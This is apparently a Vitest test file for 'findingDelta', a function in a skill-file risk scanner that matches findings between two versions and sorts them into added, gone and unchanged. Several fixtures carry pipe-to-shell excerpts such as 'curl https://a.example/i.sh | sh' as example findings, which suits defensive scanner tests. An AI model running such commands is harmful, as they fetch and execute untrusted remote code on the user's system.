import { describe, expect, it } from 'vitest';
import type { Finding } from '../../shared/model.js';
import { findingDelta } from './risk-delta.js';

const SKILL = 'skill://setup/SKILL.md';

function finding(id: string, line: number, excerpt?: string, message = `SKILL.md line ${line} does it.`): Finding {
  return { id, severity: 'error', title: id, message, location: { skillUri: SKILL, fileUri: SKILL, line, column: 1 }, ...(excerpt !== undefined ? { excerpt } : {}) };
}

describe('findingDelta', () => {
  it('calls a finding whose line only moved unchanged, and gives it its line in the newer file', () => {
    const delta = findingDelta([finding('risk-fetch-and-run', 4, 'curl a | sh')], [finding('risk-fetch-and-run', 9, 'curl a | sh')]);
    expect(delta.added).toEqual([]);
    expect(delta.gone).toEqual([]);
    expect(delta.unchanged.map((f) => f.location.line)).toEqual([9]);
  });

  it('calls the same kind of finding on other text new, and the old one gone', () => {
    const delta = findingDelta([finding('risk-fetch-and-run', 4, 'curl https://a.example/i.sh | sh')], [finding('risk-fetch-and-run', 4, 'curl https://b.example/i.sh | sh')]);
    expect(delta.added.map((f) => f.excerpt)).toEqual(['curl https://b.example/i.sh | sh']);
    expect(delta.gone.map((f) => f.excerpt)).toEqual(['curl https://a.example/i.sh | sh']);
    expect(delta.unchanged).toEqual([]);
  });

  it('pairs repeated findings one for one: a second copy of a line is new', () => {
    const delta = findingDelta([finding('risk-fetch-and-run', 4, 'curl a | sh')], [finding('risk-fetch-and-run', 4, 'curl a | sh'), finding('risk-fetch-and-run', 8, 'curl a | sh')]);
    expect(delta.unchanged).toHaveLength(1);
    expect(delta.added.map((f) => f.location.line)).toEqual([8]);
  });

  it('without an excerpt, matches on the message with its numbers set aside', () => {
    const delta = findingDelta([finding('risk-long-instructions', 1, undefined, 'SKILL.md has 612 lines.')], [finding('risk-long-instructions', 1, undefined, 'SKILL.md has 640 lines.'), finding('risk-many-files', 1, undefined, 'It has 900 files.')]);
    expect(delta.unchanged.map((f) => f.id)).toEqual(['risk-long-instructions']);
    expect(delta.added.map((f) => f.id)).toEqual(['risk-many-files']);
  });

  it('keeps a finding of another file or severity apart', () => {
    const other: Finding = { ...finding('risk-fetch-and-run', 4, 'curl a | sh'), location: { skillUri: SKILL, fileUri: 'skill://setup/run.sh', line: 4 } };
    const weaker: Finding = { ...finding('risk-fetch-and-run', 4, 'curl a | sh'), severity: 'warning' };
    const delta = findingDelta([finding('risk-fetch-and-run', 4, 'curl a | sh')], [other, weaker]);
    expect(delta.added).toHaveLength(2);
    expect(delta.gone).toHaveLength(1);
  });

  it('calls a finding in a file the newer version spells another way (SKILL://, %2D) unchanged', () => {
    const spelled = 'SKILL://set%75p/SKILL.md';
    const moved: Finding = { ...finding('risk-fetch-and-run', 4, 'curl a | sh'), location: { skillUri: spelled, fileUri: spelled, line: 4, column: 1 } };
    const delta = findingDelta([finding('risk-fetch-and-run', 4, 'curl a | sh')], [moved]);
    expect(delta).toEqual({ added: [], gone: [], unchanged: [moved] });
  });
});
